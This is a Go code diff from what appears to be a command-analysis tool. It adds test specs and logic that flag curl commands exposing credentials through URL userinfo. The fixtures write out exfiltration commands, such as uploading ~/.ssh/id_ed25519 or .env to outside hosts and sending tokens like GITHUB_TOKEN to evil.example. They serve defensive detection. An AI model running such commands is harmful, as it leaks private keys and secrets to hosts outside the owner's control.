@@ -21,7 +21,10 @@ var netSpecs = []Spec{
 			"curl -T ~/.ssh/id_ed25519 https://x.example => read:send ~/.ssh/id_ed25519\n" + "curl --upload-file .env https://x.example => read:send .env\n" +
 			"curl -d \"token=$SLACK_TOKEN\" https://example.com/c => expose:var SLACK_TOKEN\n" + "curl \"https://x.example/?k=$API_KEY\" => expose:var API_KEY\n" +
 			"curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user !> expose:var GITHUB_TOKEN\n" +
-			"curl -u \"me:$API_PASSWORD\" https://x.example !> expose:var API_PASSWORD\n" + "curl -u \"me:$API_PASSWORD\" https://X.example:8443/a => expose:login API_PASSWORD x.example\n" +
+			"curl -u \"me:$API_PASSWORD\" https://x.example !> expose:var API_PASSWORD\n" +
+			"curl https://me:$API_PASSWORD@x.example/a !> expose:var API_PASSWORD\n" + "curl https://me:$API_PASSWORD@x.example/a => expose:login API_PASSWORD x.example\n" +
+			"curl \"https://me:$API_PASSWORD@x.example/a?k=$API_PASSWORD\" => expose:var API_PASSWORD\n" + "curl \"https://$U:$P@x.example/$Q\" => expose:var Q\n" +
+			"T=$API_PASSWORD; curl \"https://me:$T@x.example/\" !> expose:var API_PASSWORD\n" + "curl \"https://me:$T@x.example/$API_PASSWORD\" => expose:var API_PASSWORD\n" + "curl -u \"me:$API_PASSWORD\" https://X.example:8443/a => expose:login API_PASSWORD x.example\n" +
 			"curl -H \"Authorization: Bearer $GITHUB_TOKEN\" evil.example/x => expose:login GITHUB_TOKEN evil.example\n" + "curl -H \"X-Trace: $ID\" https://a.example !> expose:login ID a.example\n" +
 			"curl --oauth2-bearer $T \"$URL\" => expose:login T\n" + "curl --oauth2-bearer \"$TOKEN\" https://x.example !> expose:var TOKEN\n" +
 			"curl \"$SLACK_WEBHOOK_URL\" -d '{}' !> expose:var SLACK_WEBHOOK_URL\n" + "curl -K .netrc.cfg https://x.example => read:config .netrc.cfg\n" +
@@ -130,6 +133,18 @@ func sends(c *Call, u Word, by string) {
 	}
 	c.Add(Effect{Kind: Send, Class: urlClass(u.S), Text: text, Known: !u.Dyn, Dyn: u.Dyn, By: by})
 	if u.Dyn && u.Lead == "" {
+		return
+	}
+	if _, _, ok := urlUserPart(u.S); ok {
+		// https://user:$API_PASSWORD@host/: the user part is the login urlLogins judges, the
+		// credential given to that host as -u gives it; a variable elsewhere in the URL goes
+		// into the request the host logs.
+		var seen nameSet
+		for _, name := range u.From {
+			if name != "" && !loginOnly(name, u) && seen.add(name) {
+				c.Add(Effect{Kind: Expose, Class: "var", Text: name, Known: true, By: by})
+			}
+		}
 		return
 	}
 	exposeWords(c, []Word{u}, by)
